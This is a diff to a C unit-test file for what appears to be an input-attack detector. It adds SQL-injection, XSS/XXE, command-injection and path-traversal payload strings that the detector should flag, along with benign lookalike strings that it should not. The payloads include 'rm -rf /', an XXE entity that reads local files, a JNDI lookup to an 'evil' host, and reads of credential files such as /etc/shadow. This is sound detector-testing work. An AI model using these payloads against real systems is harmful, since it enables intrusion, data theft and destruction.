@@ -128,6 +128,23 @@ static void test_sqli_shapes(void **state)
         "(select 1 from information_schema.tables)", "HOPE AND -8=3", "select current_setting('hba_file')",
         "; insert into users (name) values ('x')", " ORDER BY 6--", "1' group by 1,2--",
         "{\"user\": {\"$ne\": null}}", "*)(|(mail=*))", "drop table users",
+        /* A string closed, an expression of operators, the string reopened or commented out. */
+        "zz'*qty-'5", "bob' or price^2!='", "x\" xor -3 rlike \"7", "ab' div total--", "k'|col!='",
+        "q' is not \\N - '", "'XOR'", "n' / current_time regexp '1",
+        /* A literal expression ended by a bare comment. */
+        "7*3--", "@ver #", "( 'q' )  -- -", "(5)and(2)=(2)",
+        /* Keywords cut by comments, set operators, conditionals, casts. */
+        "5 un/**/ion se/**/lect 1,2", "intersect select 7,8", "BAR,IF(17=42,BAR,1/0)",
+        "case 3 when 'q' then 4 end", "md5(session_user())", "2 and 5 not like 6",
+        "3 order by if(2>1,a,b)", "substr(lo_get(99),1)::int", "-4 union #",
+        "from `information_schema`.columns", "{\"$nor\": [1]}",
+        /* EXEC of an extended procedure, a statement ended at the break, a
+         * boolean then a parenthesised comparison. */
+        "; exec xp_regread", "bob@example.org';", "OR (login = '", "x' and (pwd >", "'--sp_password", "or pid in (1,2)", "x' or nm like 'a%",
+        "union select name from sys.sql_logins", "'='", "root'||'",
+        "3 or least(4,5)=4", "4\xa0OR\xa0" "7=7", "FROM `acct` WHERE `acct`.`uid` = 7 LIMIT",
+        /* A query-style value inside the value; a stacked SET of a variable. */
+        "amt=||(k=!0)", "id=&&(nil==(", "q=or 7=7", "ref=; set @m = 1",
     };
     for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
         if (sqli(attacks[i]) < 50)
@@ -145,6 +162,21 @@ static void test_sqli_lookalikes(void **state)
         "Bonnie and Clyde (1967)", "a < b and c > d", "https://example.com/guide#section=intro",
         "Union Jack", "drop the table cloth", "12.5 x 12.5\"", "Drop table tennis practice at 5",
         "SELECT your favourite: tea or coffee?", "x = y || z",
+        "select one or more", "drop us a line", "meet at union station", "Tom's & Jerry's", "5'-10\" tall",
+        "4' x 8' sheet", "rock 'n' roll", "\"Yes\" or \"No\"", "I said 'or else'", "10 -- 20",
+        "page 1 -- intro", "he said \"hi\" - \"bye\"", "in case 1 when 's' then 2", "everything except select.",
+        "std::string", "\"quote\" + \"unquote\"", "it's a 1-2-3 'thing'", "(a) or (b) = (c)",
+        "{\"name\": \"O'Reilly\", \"qty\": 2}", "price: $5 & up; call 555-1234 -- ask for Bob",
+        "36\" x 48\" frame", "Q: which is best? A: 'none'", "a 'b' c 'd' e",
+        "Tom and (Jerry = cat)", "It's fine';", "x = 'a';", "execute the plan", "exec summary",
+        "color=red", "q=and more", "a=1 or 2", "title=Tom and Jerry", "note=it's fine", "x || (y = 2)",
+        "x=select one or more", "mode=drop us a line", "\"and\" / \"or\" / \"not\"", "'--' is an em dash substitute",
+        "it's 'or' not 'and'", "he's 5'10\" and she's 5'4\"", "f'(x) = 2x", "a' + b' = c'", "Is 'x' = 'y'? No.",
+        "it's 1 or 2 -- or maybe 3", "Choose \"Union\" or \"Intersection\"", "Dunkin' Donuts & Krispy Kreme",
+        "or both in parallel, as here.", "or she is an owner of the work", "or something like that",
+        "Python's sys.path and sys.exit()", "'--dry-run'.", "Add \"--avoid=lock\", because we",
+        "voil\xc3\xa0 and more", "and I not between jobs", "from home where nothing is",
+        "a || b's || c", "x = 'a' || 'b'", "r'BINARY-C-LONG|'", "outfile.write('<tt>')", "out.write('</em>')", "r'&main|&meta|&now|'", "and (self.x == other.x)", "or (self.style != '' and y)",
     };
     for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
         if (sqli(benign[i]) >= 50)
@@ -168,6 +200,21 @@ static void test_xss_shapes(void **state)
         "<div style=\"width:expression(alert(1))\">", "<object data=\"data:text/html,<script>\">",
         "javascript:alert(document.cookie)", "<x onclick=confirm`1`>", "<<script>alert(1);//<</script>",
         "<math><maction xlink:href=\"javascript:alert(1)\">", "alert(1)",
+        /* External entities and schemas, links in MathML/SVG, JSFuck, sinks in templates. */
+        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><r>&e;</r>", "<!DOCTYPE q SYSTEM \"http://h/q.dtd\">",
+        "<q xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:q http://h/q.xsd\">",
+        "<math><b xlink:href=\"//h.example/p\">go", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]]",
+        "`${ confirm }`", "(window/*c*/)['name']", "prompt\\`7\\`",
+        /* Processing instructions that load behaviour; links to a host in octal, hex or one number. */
+        "<?import namespace=\"q\" implementation=\"#default#x\">", "<?xml-stylesheet href=\"//h/s.xsl\"?>",
+        "<a href=\"http://0177.0.0.01/\">x</a>", "<img src=http://2130706433/p.png>",
+        "\" onpause=alert(1) x=\"", "' onwaiting=prompt(1) '", "\" onsuspend=confirm(2)",
+        /* Internal DTDs and parameter entities, XInclude/XSLT namespaces, IE
+         * namespaces, empty prefixes, escaped CSS calls, members past
+         * comments, data: URLs and base64 markup as whole values. */
+        "<!DOCTYPE r [ <!ELEMENT r ANY>", "x!ENTITY % p SYSTEM", "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\">",
+        "<?xml:namespace prefix=\"v\" ns=\"urn:x\">", "<:script src=//h/x.js>", "<p style=y:expression\\28f()\\29>",
+        "window /* c */ . location", "data:image/svg+xml;base64,AAAA", "PHNjcmlwdD5mKCk8L3NjcmlwdD4=",
     };
     for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
         if (xss(attacks[i]) < 50)
@@ -183,6 +230,13 @@ static void test_xss_lookalikes(void **state)
         "the onion=tasty", "Javascript: The Good Parts", "I love <you>", "email <me@example.org>",
         "see the document. It helps", "<?xml version=\"1.0\"?><svg></svg>",
         "the log likelihood\"), because the logarithm is an increasing function.",
+        "see (alert) for details", "<!DOCTYPE html>", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\">",
+        "<!DOCTYPE html SYSTEM \"about:legacy-compat\">", "<math>x^2</math>", "[ ] ! ( ) checkboxes",
+        "!!! [[ ]] (( )) !!!", "document (final) [v2]", "a <= b && c >= d", "<a href=\"https://example.org\">docs</a>",
+        "<a href=\"http://192.168.0.1/\">router</a>", "<a href=\"https://example.com/2024/05\">news</a>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "the system is down!", "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
+        "the document . see", "Please send PHOTOS", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "data: text only",
+        "onset=5", "once=2", "onward=1", "\" online=yes",
     };
     for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
         if (xss(benign[i]) >= 50)
@@ -208,6 +262,21 @@ static void test_cmdi_shapes(void **state)
         "FOR /F %a IN (x) DO echo", "IF EXIST c:\\x.txt echo", "';system('id');//", "<?php system($_GET['c']); ?>",
         "<!--#exec cmd=\"/bin/id\"-->", "${jndi:ldap://evil/a}", "{cat,/etc/passwd}", "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?",
         "|| c:\\windows\\system32\\cmd.exe /c dir", "; powershell -enc AAA", "time curl example.org",
+        /* Query-style assignments of a command, aliases, brace lists, SQLite's
+         * .shell, version suffixes, switches written onto the name, $_ splices. */
+        "cmd=uname -a", "alias k='wget'", "{,uname,-a}", ";.system id", "a | perl5.36 -e 1", "&vssadmin/q",
+        ";w$_hoami", "; trap 'rm -f x' EXIT",
+        /* A value opening with a separator then a command; $0 run as a
+         * command; ${NAME:n:m} cutting a slash out of a variable. */
+        ";echo owned", "&& set", ";ps ef", ";$0 -c uname", "${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id",
+        "| sh", "&& whoami",
+        /* ${NAME} run as a command, $"..." quoting, $? spliced, tool families,
+         * IF CMDEXTVERSION, SQLite dot commands and '.', an unknown program
+         * run with an option after a separator. */
+        "${BASH} -c 'uname'", "{,$\"uname\",}", ";w$?ho$?ami", "; ansible-playbook", "if cmdextversion 2 goto x",
+        ";\n.tables", "id;. rm -f x", ";zyxtool -q /tmp", "| frobctl --list",
+        /* Command lines opening the value, with one plain word after a strong one. */
+        "rm -rf /", "chmod -x secret", "sleep 9", "ls -la", "p`uname`q", "`uname -a`", "echo `id`", "; `id` ;",
     };
     for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
         if (cmdi(attacks[i]) < 50)
@@ -224,6 +293,21 @@ static void test_cmdi_lookalikes(void **state)
         "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Firefox/24.0", "Q&A", "black & white",
         "If not now, when?", "for the record; who knows", "sleep well & dream", "echo chamber",
         "{\"a\":[{},{}]}", "Type the words", "Time - the movie", "I'd; later", "don't | won't",
+        "CD1 & CD2", "PS/2 keyboard", "mouse & ps/2", "blu-ray & cd/dvd", "sort=date -1", "{a,b,c}",
+        "the set {1,2,3} is finite", "python3.11 is out", "gcc 7.4 release notes", "alias: John Smith",
+        "\"rm\" is short for remove", "if you read this; cat lovers unite", "Tom & Jerry; Wile E. Coyote",
+        "drop us a line & we'll reply", "union station | platform 2", "select one or more; then submit",
+        "Lua & Python", "Java; Python; Ruby", "C++ & Perl", "I like Python & SSH", "| Date | Amount |",
+        "| Echo | Delta |", "rock & roll; sleep well", "cats & dogs -pets", "{\"a\",\"b\"}",
+        "{\"a\":\"b\",\"c\":1}", "x || y", "Wait... ok; sure", "Mr. Smith; Dr. Jones", "${price} per unit",
+        "rm -rf is dangerous", "ls -la to see hidden files", "last 7 days", "ping example.com to check it",
+        "Copy ../notes.txt to the docs folder", "Run `make && make install` to build it.",
+        "use `whoami` to see your user", "top 10 tips & tricks", "$100 & $200", "$5; $0 off", "cd .. to go up", "r'mm[0-7]|cr[0-4]|tr[3-7]|k[0-7]'",
+        "Expose 'SEEK_{SET,CUR,END}'", "fixed a crash in `mandb -f` today", "see `frobd --system` docs",
+        "* **Run** `make install` to install", "`man -l foo.1` decompresses it", "the ``test`` command",
+        "If you can't use `make`, run the script", "* Add $(MAKE) check to the build",
+        "<time>2008-07-31T12:16:37Z</time>", "add hook for `make check'", ":rst:dir:`note` type can wrap",
+        "from home where nothing is",
     };
     for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
         if (cmdi(benign[i]) >= 50)
@@ -245,6 +329,12 @@ static void test_traversal_shapes(void **state)
         "..;/..;/WEB-INF/web.xml", "file:///etc/passwd", "/etc/passwd", "C:\\boot.ini", "../boot.ini",
         "page=../../../x", "0x2e0x2e/0x2e0x2e/etc", "..%9v..%9v..%9vboot.ini", "a/b/../../../c",
         "php://filter/convert.base64-encode/resource=index", "x%qfetc%qfpasswd",
+        /* One climb to a secret-holding file; a name glued after a target (a
+         * removed NUL); "2f" for a slash after a dot-dot; junk separators
+         * that decoded to control bytes or letters; spelled 0x2f alone. */
+        "../db/settings.bak", "../site/local_config.php", "../../etc/shadowfoo.txt", "..2fvar2flog2fauth.log",
+        "^^\x1cwinnt\x1csystem32\x1c" "config", "..q..qwin.ini", "0x2fetc0x2fshadow",
+        "expect://id", "data://text/plain;base64,AAAA", "../WEB-INF/web.xml", "..;/WEB-INF/classes/x",
     };
     for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
         if (trav(attacks[i]) < 50)
@@ -258,6 +348,9 @@ static void test_traversal_lookalikes(void **state)
     static const char *const benign[] = {
         "see ../docs for details", "Wait... what... no...", "/files/bingerpc.py", "/blog/tags/site?page=3",
         "v1.2..v1.3", "Hmm.. ok.. sure..", "etc. passwords are secret", "a/b/../c",
+        "../images/logo.png", "see ../ for config.ini", "the file config.ini is in ../", "edit php.ini and restart",
+        "my .env file", "../index.html", "hmm..2fast", "../docs/install guide", "wait... 2f is hex",
+        "go up one level (../) and read README.md", ".../tests/files/cacert-trusted.pem",
     };
     for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
         if (trav(benign[i]) >= 50)
